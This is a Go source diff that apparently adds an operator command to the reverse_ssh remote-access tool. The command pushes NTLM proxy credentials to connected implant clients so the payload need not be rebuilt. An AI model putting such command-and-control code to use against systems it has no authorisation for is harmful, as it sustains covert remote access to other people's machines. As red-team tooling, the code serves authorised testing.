@@ -0,0 +1,76 @@
+package commands
+
+import (
+	"fmt"
+	"io"
+
+	"github.com/NHAS/reverse_ssh/internal"
+	"github.com/NHAS/reverse_ssh/internal/server/users"
+	"github.com/NHAS/reverse_ssh/internal/terminal"
+	"github.com/NHAS/reverse_ssh/internal/terminal/autocomplete"
+	"github.com/NHAS/reverse_ssh/pkg/logger"
+)
+
+type setNtlmCreds struct {
+	log logger.Logger
+}
+
+// Run pushes new NTLM proxy credentials to already-connected clients over
+// the existing SSH request channel, so operators don't have to rebuild and
+// redeploy the payload every time the upstream proxy changes.
+func (s *setNtlmCreds) Run(user *users.User, tty io.ReadWriter, line terminal.ParsedLine) error {
+
+	if len(line.Arguments) != 2 {
+		return fmt.Errorf(s.Help(false))
+	}
+
+	connections, err := user.SearchClients(line.Arguments[0].Value())
+	if err != nil {
+		return err
+	}
+
+	if len(connections) == 0 {
+		return fmt.Errorf("No clients matched '%s'", line.Arguments[0].Value())
+	}
+
+	creds := line.Arguments[1].Value()
+
+	updated := 0
+	for id, serverConn := range connections {
+		ok, _, err := serverConn.SendRequest(internal.NTLMCredsRequestType, true, []byte(creds))
+		if err != nil || !ok {
+			fmt.Fprintf(tty, "%s: failed to push NTLM creds: %v\n", id, err)
+			continue
+		}
+
+		updated++
+	}
+
+	return fmt.Errorf("Pushed NTLM creds to %d/%d clients", updated, len(connections))
+}
+
+func (s *setNtlmCreds) Expect(line terminal.ParsedLine) []string {
+	if len(line.Arguments) <= 1 {
+		return []string{autocomplete.RemoteId}
+	}
+	return nil
+}
+
+func (s *setNtlmCreds) Help(explain bool) string {
+	if explain {
+		return "Push new NTLM proxy credentials to connected clients."
+	}
+
+	return terminal.MakeHelpText(
+		"set-ntlm-creds <remote_id> <DOMAIN\\USER:PASS>",
+		"set-ntlm-creds <glob pattern> <DOMAIN\\USER:PASS>",
+		"Push new NTLM proxy credentials to connected clients.",
+		"Lets an operator rotate the proxy password without rebuilding the payload.",
+	)
+}
+
+func SetNtlmCreds(log logger.Logger) *setNtlmCreds {
+	return &setNtlmCreds{
+		log: log,
+	}
+}